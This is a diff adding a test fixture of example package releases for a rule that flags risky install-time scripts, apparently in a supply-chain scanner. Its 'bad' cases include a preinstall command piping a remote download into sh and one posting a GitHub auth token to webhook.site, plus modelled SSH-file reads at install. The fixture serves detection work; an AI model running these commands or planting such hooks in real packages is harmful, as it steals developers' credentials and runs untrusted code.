@@ -1,0 +1,153 @@
+import type { ReleaseRuleExamples } from '../rule-examples.ts';
+
+const setup = { name: 'postinstall', command: 'node setup.js', runsAtInstall: true } as const;
+const setupFile = { path: 'setup.js' } as const;
+
+export const examples: ReleaseRuleExamples = {
+  bad: [
+    {
+      why: 'a script that only prints something',
+      severity: 'high',
+      old: {},
+      new: { scripts: [setup], files: [setupFile] },
+    },
+    {
+      why: 'the command itself fetches and runs',
+      severity: 'critical',
+      old: {},
+      new: {
+        scripts: [
+          {
+            name: 'preinstall',
+            command: 'curl -s http://198.51.100.7/x | sh',
+            runsAtInstall: true,
+          },
+        ],
+      },
+    },
+    {
+      why: 'only package.json changed',
+      severity: 'critical',
+      old: {},
+      new: {
+        scripts: [
+          {
+            name: 'preinstall',
+            command: 'curl -d "$(gh auth token)" https://webhook.site/x',
+            runsAtInstall: true,
+          },
+        ],
+      },
+    },
+    {
+      why: 'it evaluates what it fetched',
+      severity: 'critical',
+      old: {},
+      new: {
+        scripts: [setup],
+        files: [setupFile],
+        can: [
+          {
+            kind: 'code.evaluate',
+            attributes: { via: 'eval', form: 'dynamic' },
+            reach: 'install',
+            path: 'setup.js',
+          },
+        ],
+      },
+    },
+    {
+      why: 'it talks to a host that nobody knows',
+      severity: 'critical',
+      old: {},
+      new: {
+        scripts: [setup],
+        files: [setupFile],
+        can: [
+          {
+            kind: 'network.connect',
+            attributes: { destination: 'cdn.collect.invalid', scheme: 'https', via: 'https' },
+            reach: 'install',
+            path: 'setup.js',
+          },
+        ],
+      },
+    },
+    {
+      why: 'it fetches a binary from the home of the package',
+      severity: 'high',
+      old: {},
+      new: {
+        scripts: [setup],
+        files: [setupFile],
+        can: [
+          {
+            kind: 'network.connect',
+            attributes: { destination: 'github.com', scheme: 'https', via: 'https' },
+            reach: 'install',
+            path: 'setup.js',
+          },
+        ],
+      },
+    },
+    {
+      why: 'the file that it runs was left out',
+      severity: 'high',
+      old: {},
+      new: { scripts: [{ name: 'preinstall', command: 'node setup.mjs', runsAtInstall: true }] },
+    },
+    {
+      why: 'a binding.gyp in a package without native sources',
+      severity: 'high',
+      old: {},
+      new: {
+        scripts: [{ name: 'install', command: 'node-gyp rebuild', runsAtInstall: true }],
+        files: [{ path: 'binding.gyp', language: 'data' }],
+      },
+    },
+    {
+      why: 'a first release that harvests at installation',
+      severity: 'critical',
+      new: {
+        scripts: [setup],
+        files: [setupFile],
+        can: [
+          { kind: 'file.read', attributes: { class: 'ssh' }, reach: 'install', path: 'setup.js' },
+        ],
+      },
+    },
+    {
+      why: 'a native addon is built',
+      severity: 'medium',
+      old: {},
+      new: {
+        scripts: [{ name: 'install', command: 'node-gyp rebuild', runsAtInstall: true }],
+        files: [
+          { path: 'binding.gyp', language: 'data' },
+          { path: 'src/addon.cc', language: 'data' },
+        ],
+      },
+    },
+  ],
+  good: [
+    {
+      why: 'a script that only a person runs',
+      old: {},
+      new: { scripts: [{ name: 'test', command: 'vitest', runsAtInstall: false }] },
+    },
+    {
+      why: 'the same script as before',
+      old: { scripts: [setup], files: [setupFile] },
+      new: { scripts: [setup], files: [setupFile] },
+    },
+    {
+      why: 'for those who work on the package',
+      atMost: 'low',
+      old: {},
+      new: {
+        scripts: [{ name: 'postinstall', command: 'husky install || true', runsAtInstall: true }],
+      },
+    },
+    { why: 'a first release with a quiet script', new: { scripts: [setup], files: [setupFile] } },
+  ],
+};
